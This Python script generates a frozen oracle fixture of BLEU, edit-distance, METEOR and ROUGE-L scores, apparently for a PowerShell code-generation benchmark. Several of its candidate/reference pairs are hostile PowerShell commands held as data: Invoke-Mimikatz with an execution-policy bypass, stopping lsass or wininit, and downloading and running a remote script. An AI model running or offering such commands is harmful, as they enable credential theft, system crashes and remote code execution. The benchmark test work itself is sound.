#!/usr/bin/env python3
"""Freeze the similarity-metric oracle fixture.

Every scorer in this file is an independent reference implementation written
straight from the metric definitions: recursive dynamic programming with
memoization, exhaustive alignment enumeration, rational arithmetic via
fractions. None of it may import from src/psbench; the production code is
later required to agree with the frozen output.

Run from the repository root:

    python scripts/make_metric_oracle.py

writes tests/fixtures/metric_oracle.jsonl (one object per pair).
"""

from __future__ import annotations

import json
import math
import sys
from fractions import Fraction
from functools import lru_cache
from pathlib import Path

EPSILON = 1e-9

# Handcrafted candidate/reference pairs. Small on purpose: the METEOR
# oracle enumerates every maximal alignment.
PAIRS = [
    ("p01", "Get-Process -Name wininit | Stop-Process",
            "Get-Process -Name wininit | Stop-Process"),
    ("p02", "a b c d", "a b c x"),
    ("p03", "a c b", "a b c"),
    ("p04", "a b c d", "a c d"),
    ("p05", "abc", "abd"),
    ("p06", "a b", "c d"),
    ("p07", "", "Get-Process"),
    ("p08", "", ""),
    ("p09", "Get-Process", "Get-Process"),
    ("p10", "a b", "a b c"),
    ("p11", "a a b", "a b a"),
    ("p12", "powershell.exe -exec bypass -c Invoke-Mimikatz",
            "powershell.exe -ExecutionPolicy Bypass -Command Invoke-Mimikatz"),
    ("p13", "Stop-Process -Name lsass", "Stop-Process -Id 624"),
    ("p14", "Start-Sleep -Second 4 ; Stop-Process",
            "Stop-Process ; Start-Sleep -Second 4"),
    ("p15", "get-process", "Get-Process"),
    ("p16", "Get-ChildItem", "Get-ChildItem -Path C:\\ -Recurse"),
    ("p17", "Get-ChildItem -Path C:\\ -Recurse -Force",
            "Get-ChildItem -Path C:\\"),
    ("p18", "$x = 1 ; echo $x", "$x = 1 ; Write-Output $x"),
    ("p19", "a a a a", "a a"),
    ("p20", "Invoke-WebRequest -Uri http://e.io/p.ps1 -OutFile C:\\t\\p.ps1 ; . C:\\t\\p.ps1",
            "Invoke-WebRequest http://e.io/p.ps1 -OutFile C:\\t\\p.ps1 ; powershell C:\\t\\p.ps1"),
]


def oracle_bleu4(cand: list[str], ref: list[str]) -> float:
    """Sentence BLEU from the textbook formula, log-sum form.

    Uniform weights over n = 1..4, restricted to the orders the candidate
    has n-grams for (so identical short sequences still score 1), matched
    counts clipped against the reference, epsilon added when a count is
    zero, brevity penalty exp(1 - r/c) for c < r.
    """
    if not cand or not ref:
        return 0.0
    orders = [n for n in (1, 2, 3, 4) if len(cand) >= n]
    log_sum = 0.0
    for n in orders:
        cand_grams: dict[tuple[str, ...], int] = {}
        for i in range(len(cand) - n + 1):
            g = tuple(cand[i:i + n])
            cand_grams[g] = cand_grams.get(g, 0) + 1
        ref_grams: dict[tuple[str, ...], int] = {}
        for i in range(len(ref) - n + 1):
            g = tuple(ref[i:i + n])
            ref_grams[g] = ref_grams.get(g, 0) + 1
        matched = sum(min(c, ref_grams.get(g, 0)) for g, c in cand_grams.items())
        total = len(cand) - n + 1
        numer = matched if matched > 0 else EPSILON
        log_sum += math.log(numer / total) / len(orders)
    bp = 1.0 if len(cand) >= len(ref) else math.exp(1.0 - len(ref) / len(cand))
    return bp * math.exp(log_sum)


def oracle_levenshtein(a: str, b: str) -> int:
    """Character edit distance, recursive definition with memoization."""
    sys.setrecursionlimit(100_000)

    @lru_cache(maxsize=None)
    def dist(i: int, j: int) -> int:
        if i == 0:
            return j
        if j == 0:
            return i
        sub = 0 if a[i - 1] == b[j - 1] else 1
        return min(dist(i - 1, j) + 1,
                   dist(i, j - 1) + 1,
                   dist(i - 1, j - 1) + sub)

    d = dist(len(a), len(b))
    dist.cache_clear()
    return d


def oracle_edit_similarity(a: str, b: str) -> float:
    if not a and not b:
        return 1.0
    return 1.0 - oracle_levenshtein(a, b) / max(len(a), len(b))


def oracle_meteor(cand: list[str], ref: list[str]) -> float:
    """Exhaustive METEOR: enumerate every maximal unigram alignment,
    take the minimum chunk count, then apply the harmonic-mean formula
    with rational arithmetic."""
    shared = set(cand) & set(ref)
    quota = {t: min(cand.count(t), ref.count(t)) for t in shared}
    m = sum(quota.values())
    if m == 0:
        return 0.0

    # Suffix counts let the enumeration skip candidate occurrences only
    # while maximality is still reachable.
    suffix: list[dict[str, int]] = [dict.fromkeys(shared, 0) for _ in range(len(cand) + 1)]
    for i in range(len(cand) - 1, -1, -1):
        suffix[i] = dict(suffix[i + 1])
        if cand[i] in suffix[i]:
            suffix[i][cand[i]] += 1

    best_chunks = [m + 1]

    def chunks_of(pairs: list[tuple[int, int]]) -> int:
        n = 1
        for k in range(1, len(pairs)):
            if pairs[k][0] != pairs[k - 1][0] + 1 or pairs[k][1] != pairs[k - 1][1] + 1:
                n += 1
        return n

    def recurse(i: int, remaining: dict[str, int], used_ref: set[int],
                pairs: list[tuple[int, int]]) -> None:
        if len(pairs) == m:
            best_chunks[0] = min(best_chunks[0], chunks_of(pairs))
            return
        if i >= len(cand):
            return
        t = cand[i]
        if t in remaining and remaining[t] > 0:
            for j, rt in enumerate(ref):
                if rt == t and j not in used_ref:
                    remaining[t] -= 1
                    used_ref.add(j)
                    pairs.append((i, j))
                    recurse(i + 1, remaining, used_ref, pairs)
                    pairs.pop()
                    used_ref.discard(j)
                    remaining[t] += 1
        # Skipping this occurrence is legal only if the quota for every
        # token can still be filled from later positions.
        can_skip = all(suffix[i + 1].get(tok, 0) >= need
                       for tok, need in remaining.items()
                       if need > 0)
        if can_skip:
            recurse(i + 1, remaining, used_ref, pairs)

    recurse(0, dict(quota), set(), [])
    chunks = best_chunks[0]

    precision = Fraction(m, len(cand))
    recall = Fraction(m, len(ref))
    fmean = 10 * precision * recall / (recall + 9 * precision)
    penalty = Fraction(1, 2) * Fraction(chunks, m) ** 3
    return float(fmean * (1 - penalty))


def oracle_rouge_l(cand: list[str], ref: list[str]) -> float:
    """LCS F1 via the recursive LCS definition and rational arithmetic."""
    if not cand or not ref:
        return 0.0
    sys.setrecursionlimit(100_000)

    @lru_cache(maxsize=None)
    def lcs(i: int, j: int) -> int:
        if i == 0 or j == 0:
            return 0
        if cand[i - 1] == ref[j - 1]:
            return lcs(i - 1, j - 1) + 1
        return max(lcs(i - 1, j), lcs(i, j - 1))

    length = lcs(len(cand), len(ref))
    lcs.cache_clear()
    if length == 0:
        return 0.0
    p = Fraction(length, len(cand))
    r = Fraction(length, len(ref))
    return float(2 * p * r / (p + r))


def main() -> None:
    out_path = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "metric_oracle.jsonl"
    out_path.parent.mkdir(parents=True, exist_ok=True)
    with out_path.open("w", encoding="utf-8") as fh:
        for pair_id, candidate, reference in PAIRS:
            cand_tokens = candidate.split()
            ref_tokens = reference.split()
            record = {
                "id": pair_id,
                "candidate": candidate,
                "reference": reference,
                "bleu4": oracle_bleu4(cand_tokens, ref_tokens),
                "ed": oracle_edit_similarity(candidate, reference),
                "meteor": oracle_meteor(cand_tokens, ref_tokens),
                "rouge_l": oracle_rouge_l(cand_tokens, ref_tokens),
            }
            fh.write(json.dumps(record, sort_keys=True) + "\n")
    print(f"wrote {len(PAIRS)} pairs -> {out_path}")


if __name__ == "__main__":
    main()
